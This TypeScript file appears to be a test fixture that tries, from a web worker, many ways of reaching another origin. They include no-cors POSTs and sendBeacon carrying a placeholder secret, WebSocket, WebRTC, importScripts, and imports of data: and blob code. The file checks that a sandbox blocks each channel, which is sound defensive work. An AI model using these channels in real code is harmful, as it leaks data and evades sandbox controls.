/**
 * Ways to send something out of a compute thread, as text that the thread runs: each gets ADDRESS, of another origin. What does
 * not exist in a worker is a way that is closed.
 */
export const WAYS_OUT: Readonly<Record<string, string>> = {
  fetch: "await fetch(ADDRESS)",
  "fetch without CORS": "await fetch(ADDRESS, { mode: 'no-cors', method: 'POST', body: 'secret' })",
  "fetch that outlives the page": "await fetch(ADDRESS, { keepalive: true, mode: 'no-cors' })",
  "fetch of an address without a scheme": "await fetch(ADDRESS.replace(/^http:/, ''), { mode: 'no-cors' })",
  XMLHttpRequest:
    "await new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', ADDRESS); x.send(); })",
  "XMLHttpRequest that blocks": "{ const x = new XMLHttpRequest(); x.open('POST', ADDRESS, false); x.send('secret'); }",
  WebSocket:
    "await new Promise((done) => { const s = new WebSocket(ADDRESS.replace(/^http/, 'ws')); s.onopen = done; s.onerror = done; })",
  WebSocketStream: "await new WebSocketStream(ADDRESS.replace(/^http/, 'ws')).opened",
  EventSource:
    "await new Promise((done) => { const s = new EventSource(ADDRESS); s.onopen = done; s.onerror = () => { s.close(); done(); }; })",
  importScripts: "importScripts(ADDRESS)",
  "dynamic import": "await import(ADDRESS)",
  "dynamic import of a data: address": "await import('data:text/javascript,fetch(\"' + ADDRESS + '\")')",
  "dynamic import of a blob":
    "await import(URL.createObjectURL(new Blob(['fetch(\"' + ADDRESS + '\")'], { type: 'text/javascript' })))",
  sendBeacon: "navigator.sendBeacon(ADDRESS, 'secret')",
  WebRTC:
    "{ const c = new RTCPeerConnection({ iceServers: [{ urls: ADDRESS.replace(/^http:\\/\\//, 'stun:') }] }); c.createDataChannel('x'); await c.setLocalDescription(); }",
  WebTransport: "await new WebTransport(ADDRESS.replace(/^http:/, 'https:')).ready",
  "an image":
    "await new Promise((done) => { const i = new Image(); i.onload = done; i.onerror = done; i.src = ADDRESS; })",
  "a font": "await new FontFace('x', 'url(' + ADDRESS + ')').load()",
  "a worker of the other origin":
    "await new Promise((done) => { const w = new Worker(ADDRESS); w.onerror = done; setTimeout(done, 500); })",
  "a worker made of text":
    "await new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch(\"' + ADDRESS + '\")']))); w.onerror = done; setTimeout(done, 500); })",
  "a worker of a data: address":
    "await new Promise((done) => { const w = new Worker('data:text/javascript,fetch(\"' + ADDRESS + '\")'); w.onerror = done; setTimeout(done, 500); })",
  "the cache": "await (await caches.open('x')).add(ADDRESS)",
  "code made of text": "await eval('fetch(ADDRESS)')",
  "a function made of text": "await new Function('address', 'return fetch(address)')(ADDRESS)",
};

/** One way, tried in a thread: never throws, and takes a second at most. */
export function attempt(way: string, address: string): string {
  const tried = `(async () => { const ADDRESS = ${JSON.stringify(address)}; try { ${way}; } catch {} })()`;
  return `Promise.race([${tried}, new Promise((done) => setTimeout(done, 1000))])`;
}
